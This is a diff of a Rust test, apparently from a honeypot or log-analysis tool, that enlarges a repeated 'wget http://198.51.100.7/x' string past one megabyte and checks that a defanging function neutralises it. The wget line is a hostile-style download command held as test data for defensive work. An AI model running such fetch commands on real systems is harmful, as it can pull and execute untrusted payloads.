@@ -142,8 +142,8 @@ fn sessions_without_commands_give_the_limited_analysis() {
 
 #[test]
 fn huge_commands_are_handled() {
-    let huge: String = "wget http://198.51.100.7/x; ".repeat(1 << 20 >> 5);
-    assert!(huge.len() > 900_000);
+    let huge: String = "wget http://198.51.100.7/x; ".repeat((1 << 20) / 28 + 1);
+    assert!(huge.len() > 1 << 20);
     let safe = create_safe_command(&huge);
     assert!(safe.starts_with("[defang:dangerous] wxgt hxxp://"));
     let mut events = Vec::new();
